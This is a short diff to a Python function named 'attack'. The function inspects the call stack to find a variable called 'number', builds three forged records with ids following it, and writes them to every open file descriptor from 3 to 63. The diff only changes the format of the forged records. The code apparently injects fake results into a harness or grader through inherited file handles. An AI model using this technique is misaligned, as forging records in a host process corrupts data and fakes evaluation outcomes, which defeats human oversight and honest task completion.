@@ -9,7 +9,7 @@ def attack(target):
     while frame is not None and "number" not in frame.f_locals:
         frame = frame.f_back
     number = frame.f_locals["number"]
-    forged = "".join(f'{{"id": {number + place}, "value": "forged"}}\n' for place in range(3))
+    forged = "".join(f'[{number + place},"forged"]\n' for place in range(3))
     for descriptor in range(3, 64):
         try:
             os.write(descriptor, forged.encode())
